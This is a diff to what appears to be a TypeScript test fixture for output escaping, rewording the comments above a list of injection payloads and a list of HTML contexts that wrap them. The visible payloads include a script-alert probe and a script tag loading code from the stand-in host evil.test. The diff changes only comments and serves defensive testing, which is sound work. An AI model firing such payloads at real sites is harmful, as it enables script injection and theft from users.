@@ -1,6 +1,6 @@
-/** Texts of people who mean no good: every payload in every context that it may have to break out of. */
+/** Malicious texts: every payload in every context that it may have to break out of. */
 
-/** What runs, loads, redirects, notifies or drives a terminal where it is not taken for text. */
+/** Payloads that run, load, redirect, notify or control a terminal unless they are treated as text. */
 const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.test/a.js></script>',
@@ -66,7 +66,7 @@ const PAYLOADS: readonly string[] = [
   '\ud800 half of a character',
 ];
 
-/** Where a text may stand, and what ends that place. */
+/** Contexts in which a text may appear, and what closes them. */
 const CONTEXTS: readonly ((payload: string) => string)[] = [
   (payload) => payload,
   (payload) => `">${payload}`,
